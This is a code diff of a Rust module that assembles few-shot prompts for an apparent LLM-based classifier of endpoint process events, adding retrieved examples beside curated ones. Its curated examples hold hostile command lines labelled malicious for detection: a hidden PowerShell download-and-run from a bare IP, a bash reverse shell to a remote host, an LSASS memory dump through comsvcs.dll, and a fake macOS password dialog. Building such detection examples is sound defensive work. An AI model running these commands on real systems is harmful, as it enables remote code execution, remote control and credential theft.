@@ -30,75 +30,75 @@ technique ids, and a one-sentence rationale.";
 
 /// One curated example: a plain event (JSON), its label, techniques and rationale. Written
 /// for this prompt; none of them is in `eval/events.jsonl`.
-struct Example {
+struct Curated {
     event: &'static str,
     label: Label,
     techniques: &'static [&'static str],
     rationale: &'static str,
 }
 
-const EXAMPLES: &[Example] = &[
-    Example {
+const EXAMPLES: &[Curated] = &[
+    Curated {
         event: r#"{"os":"windows","process_name":"C:\\Windows\\System32\\svchost.exe","command_line":"C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc","parent_name":"services.exe","user":"CORP\\mlopez"}"#,
         label: Label::Benign,
         techniques: &[],
         rationale: "A Windows service host started by the service manager for a built-in user service.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"windows","process_name":"powershell.exe","command_line":"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')\"","parent_name":"EXCEL.EXE","user":"CORP\\tnguyen"}"#,
         label: Label::Malicious,
         techniques: &["T1059.001", "T1105"],
         rationale: "A spreadsheet spawns hidden PowerShell that downloads and runs a script from a bare IP address.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"linux","process_name":"/usr/bin/git","command_line":"git fetch --prune origin","parent_name":"zsh","user":"dev"}"#,
         label: Label::Benign,
         techniques: &[],
         rationale: "A developer updating a repository from an interactive shell.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"windows","process_name":"net.exe","command_line":"net localgroup administrators","parent_name":"cmd.exe","user":"CORP\\kpatel"}"#,
         label: Label::Suspicious,
         techniques: &["T1069.001"],
         rationale: "Listing local administrators is common reconnaissance, though admins also do it.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"linux","process_name":"/bin/bash","command_line":"bash -c 'sh -i >& /dev/tcp/203.0.113.50/9001 0>&1'","parent_name":"php-fpm","user":"www-data"}"#,
         label: Label::Malicious,
         techniques: &["T1059.004"],
         rationale: "The web server user opens an interactive shell over TCP to a remote host: a reverse shell.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"macos","process_name":"/Applications/Slack.app/Contents/Frameworks/Slack Helper (Renderer).app/Contents/MacOS/Slack Helper (Renderer)","command_line":"Slack Helper (Renderer) --type=renderer --enable-sandbox --lang=en-US --renderer-client-id=7","parent_name":"Slack","user":"amy"}"#,
         label: Label::Benign,
         techniques: &[],
         rationale: "A chat application's sandboxed renderer process.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"windows","process_name":"rundll32.exe","command_line":"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full","parent_name":"cmd.exe","user":"CORP\\svc_backup"}"#,
         label: Label::Malicious,
         techniques: &["T1003.001"],
         rationale: "comsvcs.dll MiniDump of a process into a public folder is a known way to dump LSASS credentials.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"linux","process_name":"/usr/bin/nmap","command_line":"nmap -sS -p 1-1024 10.0.8.0/24","parent_name":"bash","user":"root"}"#,
         label: Label::Suspicious,
         techniques: &["T1046"],
         rationale: "A port scan of an internal subnet: network discovery that needs a human to confirm intent.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"macos","process_name":"/usr/bin/osascript","command_line":"osascript -e 'display dialog \"macOS needs your password to continue\" default answer \"\" with hidden answer'","parent_name":"bash","user":"amy"}"#,
         label: Label::Malicious,
         techniques: &["T1056.002"],
         rationale: "A fake system dialog asking for the user's password is credential phishing.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"windows","process_name":"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe","command_line":"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding","parent_name":"svchost.exe","user":"NT AUTHORITY\\NETWORK SERVICE"}"#,
         label: Label::Benign,
         techniques: &[],
         rationale: "The WMI provider host started by the COM launcher, as on every Windows machine.",
     },
-    Example {
+    Curated {
         event: r#"{"os":"linux","process_name":"/usr/bin/rsync","command_line":"rsync -a --delete /srv/www/ backup@10.0.4.20:/backups/www/","parent_name":"cron","user":"backup"}"#,
         label: Label::Benign,
         techniques: &[],
@@ -111,26 +111,53 @@ pub fn event_block(event: &Event) -> String {
     format!("Event:\n{}", event.render())
 }
 
-fn example_events() -> impl Iterator<Item = (String, &'static Example)> {
-    EXAMPLES.iter().map(|e| {
-        let value: serde_json::Value = serde_json::from_str(e.event).expect("example events are valid JSON");
-        let event = sotto_events::parse_json(&value).expect("example events parse");
-        (event_block(&event), e)
-    })
+/// One example as the prompt shows it.
+pub(crate) struct Shot {
+    block: String,
+    label: Label,
+    techniques: Vec<String>,
+    rationale: String,
 }
 
-fn techniques_line(ex: &Example) -> String {
+impl Shot {
+    fn curated(e: &Curated) -> Shot {
+        let value: serde_json::Value = serde_json::from_str(e.event).expect("example events are valid JSON");
+        let event = sotto_events::parse_json(&value).expect("example events parse");
+        Shot {
+            block: event_block(&event),
+            label: e.label,
+            techniques: e.techniques.iter().map(|t| t.to_string()).collect(),
+            rationale: e.rationale.to_string(),
+        }
+    }
+
+    /// A bank example retrieved for this event.
+    pub(crate) fn retrieved(e: &crate::bank::Example) -> Shot {
+        Shot {
+            block: event_block(&e.event()),
+            label: e.label,
+            techniques: e.techniques.clone(),
+            rationale: e.rationale.clone(),
+        }
+    }
+}
+
+fn example_events() -> impl Iterator<Item = Shot> {
+    EXAMPLES.iter().map(Shot::curated)
+}
+
+fn techniques_line(ex: &Shot) -> String {
     if ex.techniques.is_empty() { "none".into() } else { ex.techniques.join(", ") }
 }
 
 /// The line-oriented answer the fast path's examples show.
-fn line_answer(ex: &Example) -> String {
+fn line_answer(ex: &Shot) -> String {
     format!("Verdict: {}\nTechniques: {}\nRationale: {}\n", ex.label, techniques_line(ex), ex.rationale)
 }
 
 /// The JSON answer the constrained examples show, keys in the schema's order (the order the
 /// grammar generates them in).
-fn json_answer(ex: &Example) -> String {
+fn json_answer(ex: &Shot) -> String {
     let confidence = match ex.label {
         Label::Suspicious => 0.6,
         _ => 0.9,
@@ -139,8 +166,8 @@ fn json_answer(ex: &Example) -> String {
     format!(
         "{{\"verdict\": \"{}\", \"confidence\": {confidence}, \"severity\": {severity}, \"techniques\": {}, \"rationale\": {}}}",
         ex.label,
-        serde_json::to_string(ex.techniques).expect("serialises"),
-        serde_json::to_string(ex.rationale).expect("serialises"),
+        serde_json::to_string(&ex.techniques).expect("serialises"),
+        serde_json::to_string(&ex.rationale).expect("serialises"),
     )
 }
 
@@ -151,48 +178,55 @@ pub(crate) struct Layout {
     pub fixed: usize,
 }
 
-/// The prompt for `event` in the line format (fast path), ready for an answer prefix.
-pub(crate) fn lines(style: Style, event: &Event, examples: bool) -> Layout {
-    build(style, event, examples, INSTRUCTIONS, line_answer, "")
+/// The prompt for `event` in the line format (fast path), ready for an answer prefix. The
+/// curated examples (when `examples`) are the fixed, cached part; `retrieved` examples follow
+/// them, closest last, right before the event.
+pub(crate) fn lines(style: Style, event: &Event, examples: bool, retrieved: &[Shot]) -> Layout {
+    build(style, event, examples, retrieved, INSTRUCTIONS, line_answer, "")
 }
 
 /// The prompt for `event` asking for a JSON verdict.
-pub(crate) fn json(style: Style, event: &Event, examples: bool) -> Layout {
+pub(crate) fn json(style: Style, event: &Event, examples: bool, retrieved: &[Shot]) -> Layout {
     let instructions = format!("{INSTRUCTIONS}\n{JSON_INSTRUCTIONS}");
-    let answer = |ex: &Example| format!("Answer: {}\n", json_answer(ex));
-    build(style, event, examples, &instructions, answer, "Answer:")
+    let answer = |ex: &Shot| format!("Answer: {}\n", json_answer(ex));
+    build(style, event, examples, retrieved, &instructions, answer, "Answer:")
 }
 
 fn build(
     style: Style,
     event: &Event,
     examples: bool,
+    retrieved: &[Shot],
     instructions: &str,
-    answer: impl Fn(&Example) -> String,
+    answer: impl Fn(&Shot) -> String,
     chat_answer_strip: &str,
 ) -> Layout {
-    let shots: Vec<(String, &Example)> = if examples { example_events().collect() } else { Vec::new() };
+    let curated: Vec<Shot> = if examples { example_events().collect() } else { Vec::new() };
     match style {
         Style::Completion => {
             let mut text = format!("{instructions}\n\n");
-            for (block, ex) in &shots {
-                text.push_str(block);
+            let add = |text: &mut String, ex: &Shot| {
+                text.push_str(&ex.block);
                 text.push_str(&answer(ex));
                 text.push('\n');
-            }
+            };
+            curated.iter().for_each(|ex| add(&mut text, ex));
             let fixed = text.len();
+            retrieved.iter().for_each(|ex| add(&mut text, ex));
             text.push_str(&event_block(event));
             Layout { prompt: Prompt::Text(text), fixed }
         }
         Style::Chat => {
             let mut messages = vec![Message::new("system", instructions)];
-            for (block, ex) in &shots {
-                messages.push(Message::new("user", block.trim_end()));
+            let add = |messages: &mut Vec<Message>, ex: &Shot| {
+                messages.push(Message::new("user", ex.block.trim_end()));
                 let a = answer(ex);
                 let a = a.strip_prefix(chat_answer_strip).unwrap_or(&a).trim();
                 messages.push(Message::new("assistant", a));
-            }
+            };
+            curated.iter().for_each(|ex| add(&mut messages, ex));
             let fixed = messages.len();
+            retrieved.iter().for_each(|ex| add(&mut messages, ex));
             messages.push(Message::new("user", event_block(event).trim_end()));
             Layout { prompt: Prompt::Chat(messages), fixed }
         }
@@ -247,7 +281,7 @@ mod tests {
 
     #[test]
     fn examples_parse_and_are_balanced() {
-        let labels: Vec<Label> = example_events().map(|(_, e)| e.label).collect();
+        let labels: Vec<Label> = example_events().map(|e| e.label).collect();
         for l in [Label::Malicious, Label::Suspicious, Label::Benign] {
             assert!(labels.iter().filter(|&&x| x == l).count() >= 2, "{l:?}");
         }
@@ -261,20 +295,20 @@ mod tests {
     #[test]
     fn the_event_comes_last_and_everything_before_it_is_fixed() {
         let e = event("ls -la");
-        let Layout { prompt: Prompt::Text(text), fixed } = lines(Style::Completion, &e, true) else { panic!() };
+        let Layout { prompt: Prompt::Text(text), fixed } = lines(Style::Completion, &e, true, &[]) else { panic!() };
         assert!(text[fixed..].starts_with("Event:\n"), "{}", &text[fixed..]);
         assert!(text[fixed..].contains("command_line: \"ls -la\""));
         assert_eq!(text.matches("Verdict:").count(), EXAMPLES.len());
-        let other = lines(Style::Completion, &event("whoami"), true);
+        let other = lines(Style::Completion, &event("whoami"), true, &[]);
         let Prompt::Text(other) = other.prompt else { panic!() };
         assert_eq!(text[..fixed], other[..fixed], "the shared part does not depend on the event");
 
-        let Layout { prompt: Prompt::Chat(m), fixed } = json(Style::Chat, &e, true) else { panic!() };
+        let Layout { prompt: Prompt::Chat(m), fixed } = json(Style::Chat, &e, true, &[]) else { panic!() };
         assert_eq!(fixed, 1 + 2 * EXAMPLES.len());
         assert!(m[2].content.starts_with("{\"verdict\": \"benign\", \"confidence\": 0.9"), "{}", m[2].content);
         assert!(crate::verdict::from_json(&m[2].content).is_ok(), "examples are valid verdicts");
         assert_eq!(m.len(), fixed + 1);
-        let Layout { prompt: Prompt::Chat(zero), .. } = json(Style::Chat, &e, false) else { panic!() };
+        let Layout { prompt: Prompt::Chat(zero), .. } = json(Style::Chat, &e, false, &[]) else { panic!() };
         assert_eq!(zero.len(), 2);
     }
 
